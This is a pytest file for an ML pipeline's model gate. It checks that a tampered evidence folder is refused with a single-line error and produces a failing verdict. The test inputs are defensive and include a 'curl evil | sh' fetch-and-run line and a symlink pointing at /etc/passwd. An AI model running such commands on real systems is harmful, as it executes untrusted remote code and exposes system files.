"""The evidence comes from the PR's run: every way it can be bent is refused in one line."""

from __future__ import annotations

import json
import os

import pytest

from mlproject.errors import PipelineError
from mlproject.verdict import evidence as ev
from mlproject.verdict import run

from .helpers import Case, tamper


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    case = Case(tmp_path_factory.mktemp("evidence"), rows=600)
    return case, *case.build()


def fresh(built, tmp_path):
    case, e, _, _ = built
    return case.write(e, name=f"copy-{tmp_path.name}")


def set_path(raw, path, value):
    *keys, last = path
    for key in keys:
        raw = raw[key]
    raw[last] = value


CASES = {
    "extra file": (lambda f: (f / "run.sh").write_text("curl evil | sh"),
                   "evidence may hold only evidence.json and the model files; found 'run.sh'"),
    "a folder": (lambda f: (f / "sub").mkdir(), "found 'sub'"),
    "path traversal name": (lambda f: (f / "..evil.json").write_text("{}"),
                            "found '..evil.json'"),
    "symlink": (lambda f: (f / "model.json").unlink() or os.symlink("/etc/passwd",
                                                                    f / "model.json"),
                "model.json is not a regular file"),
    "oversized": (lambda f: os.truncate(f / ev.FILE, ev.MAX_BYTES + 1), "over the"),
    "not JSON": (lambda f: (f / ev.FILE).write_text("{not json"), "evidence.json:"),
    "NaN": (lambda f: (f / ev.FILE).write_text((f / ev.FILE).read_text().replace(
        '"threshold":0.7', '"threshold":NaN')), "NaN is not a finite number"),
    "unknown key": (lambda f: tamper(f, lambda r: r.update(verdict="passed")),
                    "verdict: Extra inputs are not permitted"),
    "wrong type": (lambda f: tamper(f, lambda r: set_path(r, ["pr", "number"], "7")),
                   "pr.number"),
    "duplicate row keys": (lambda f: tamper(f, lambda r: set_path(
        r, ["holdout", "keys", 1], r["holdout"]["keys"][0])), "row keys repeat"),
    "label changed": (lambda f: tamper(f, lambda r: set_path(
        r, ["holdout", "labels", 0], 1 - r["holdout"]["labels"][0])),
        "fingerprint does not match its rows"),
    "value changed": (lambda f: tamper(f, lambda r: set_path(
        r, ["holdout", "columns", "tenure", 0], 999.0)), "values do not match their row hashes"),
    "missing scores": (lambda f: tamper(f, lambda r: r["models"]["champion"]["proba"].pop()),
                       "champion scores"),
    "probabilities off": (lambda f: tamper(f, lambda r: set_path(
        r, ["models", "challenger", "proba", 0], [0.9, 0.9])), "summing to 1"),
    "long text": (lambda f: tamper(f, lambda r: set_path(r, ["reason"], "x" * 10_000)),
                  "reason"),
    "deep nesting": (lambda f: (f / ev.FILE).write_text("[" * 100_000 + "]" * 100_000),
                     "evidence.json:"),
    "broken JSON": (lambda f: (f / ev.FILE).write_text((f / ev.FILE).read_text()[1:]),
                    "evidence.json:"),
}


@pytest.mark.parametrize("name", list(CASES))
def test_bent_evidence_is_refused_in_one_line(built, tmp_path, name):
    bend, message = CASES[name]
    folder = fresh(built, tmp_path)
    bend(folder)
    with pytest.raises(PipelineError) as caught:
        ev.read(folder)
    text = str(caught.value)
    assert message in text and "\n" not in text and len(text) < 300, text


@pytest.mark.parametrize("name", ["extra file", "label changed", "NaN", "broken JSON"])
def test_the_judge_turns_bent_evidence_into_a_failing_verdict(built, tmp_path, name):
    """Nothing crashes: the verdict fails, says why, and still names the PR when it can."""
    case, _, _, repo = built
    folder = fresh(built, tmp_path)
    CASES[name][0](folder)
    verdict = run.judge(folder, tmp_path / "out", case.raw, repo)
    assert verdict["passed"] is False and CASES[name][1] in verdict["description"]
    assert verdict["pr"] == 7
    body = (tmp_path / "out" / "report.md").read_text()
    assert body.startswith("## ❌ Model gate failed")
    assert "<!-- mlproject-verdict: failed -->" in body


def test_missing_evidence_is_a_failing_verdict(built, tmp_path):
    case, _, _, repo = built
    verdict = run.judge(tmp_path / "nothing", tmp_path / "out", case.raw, repo)
    assert verdict == {**verdict, "passed": False, "pr": None}
    assert "no evidence" in verdict["description"]


def test_written_evidence_reads_back(built):
    _, e, folder, _ = built
    assert ev.read(folder) == e
    assert json.loads((folder / ev.FILE).read_text())["format"] == 1
